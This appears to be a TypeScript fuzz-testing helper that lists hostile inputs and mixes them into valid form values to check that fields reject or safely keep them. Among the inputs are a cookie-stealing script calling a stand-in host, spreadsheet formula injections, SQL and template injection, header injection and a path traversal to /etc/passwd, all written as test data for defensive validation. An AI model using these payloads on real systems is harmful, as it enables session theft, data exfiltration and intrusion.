import fc from 'fast-check';

/** What people paste, phones send and attackers try: every field must take it or refuse it, and stay whole. */
export const hostile: Record<string, string> = {
  nothing: '',
  'only spaces': ' \t\u00a0\u3000 ',
  'null byte': 'Siti\u0000Aminah',
  'control characters': 'Siti\u0001\u0007\u001b[31mAminah\u009f',
  'line breaks': 'Jl. Raya\r\nRT 02\nRW 01\u2028x\u2029y',
  'right-to-left marks': '\u202eanimA itiS\u202c \u2066Siti\u2069',
  'byte order mark': '\ufeffSiti',
  'zero width': 'Si\u200bti\u200d\u2060Aminah',
  'half a character': 'Siti \ud83d Aminah \udc00',
  emoji: 'Keripik 🍌👩‍🍳🏽 Renyah',
  'stacked accents': `Z${'\u0301\u0317'.repeat(60)}`,
  'other digits': '٣٣٢٥٠٨٥٧٠٨٩٠٠٠٠١',
  'wide digits': '９１２０４０５１２３４５６',
  'ten thousand letters': 'a'.repeat(10_000),
  'ten thousand digits': '9'.repeat(10_000),
  markup: '<b onmouseover=alert(1)>Siti</b>',
  script: '"><script>fetch("//x.test/"+document.cookie)</script>',
  'end of the page’s data': '</script><!--',
  'formula cell': '=HYPERLINK("http://x.test?"&A1,"klik")',
  'formula by sign': '+62812-3456|cmd /C calc!A0',
  'formula by at': '@SUM(1+1)*cmd',
  sql: "Robert'); DROP TABLE vendor; --",
  'sql in a number': '9120405123456 OR 1=1',
  template: '{n, plural, other {#}} {{7*7}} <%= 7*7 %>',
  path: '../../../../etc/passwd\u0000.png',
  'header break': 'Siti\r\nSet-Cookie: laris=x',
  'prototype name': '__proto__',
  'object name': 'constructor',
  json: '{"$ne":null}',
  'negative amount': '-1',
  'amount beyond counting': '9'.repeat(40),
  'amount with power': '1e309',
  'not a number': 'NaN',
};

/** Right answers with something hostile in, before, behind or all around. */
export function spoil(right: string): fc.Arbitrary<string> {
  const bad = fc.constantFrom(...Object.values(hostile));
  return fc.oneof(
    bad,
    bad.map(text => text + right),
    bad.map(text => right + text),
    bad.map(text => right.slice(0, 3) + text + right.slice(3)),
    fc.string({ unit: 'binary', maxLength: 300 }),
    fc.array(fc.nat(0xffff), { maxLength: 60 }).map(codes => String.fromCharCode(...codes)),
  );
}
